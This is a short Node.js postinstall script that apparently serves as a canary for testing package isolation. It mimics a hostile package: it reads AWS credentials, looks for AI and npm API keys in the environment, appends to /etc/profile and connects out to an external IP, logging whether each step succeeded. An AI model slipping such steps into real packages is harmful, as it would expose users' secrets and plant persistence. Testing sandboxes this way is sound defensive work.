// A lifecycle script as hostile packages carry them: it looks for secrets, leaves a way back in, and calls home.
import { appendFileSync, readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { homedir } from 'node:os';
import { join } from 'node:path';

const attempts = {
  'read the AWS credentials': () => readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'),
  'read an API key from the environment': () => {
    const key = process.env.ANTHROPIC_API_KEY ?? process.env.OPENAI_API_KEY ?? process.env.NPM_TOKEN;
    if (key === undefined) throw new Error('no key in the environment');
  },
  'write a system file': () => appendFileSync('/etc/profile', 'echo planted\n'),
};
for (const [what, attempt] of Object.entries(attempts)) {
  try {
    attempt();
    console.log(`postinstall: SUCCEEDED: ${what}`);
  } catch (error) {
    console.log(`postinstall: failed: ${what}: ${error.code ?? error.message}`);
  }
}
const port = Number(process.env.DEMO_CANARY_PORT ?? 80);
const socket = connect({ host: '198.51.100.7', port, timeout: 2000 });
socket.on('connect', () => console.log('postinstall: SUCCEEDED: call home'));
socket.on('error', (error) => console.log(`postinstall: failed: call home: ${error.code}`));
socket.on('timeout', () => socket.destroy(Object.assign(new Error('timeout'), { code: 'ETIMEDOUT' })));
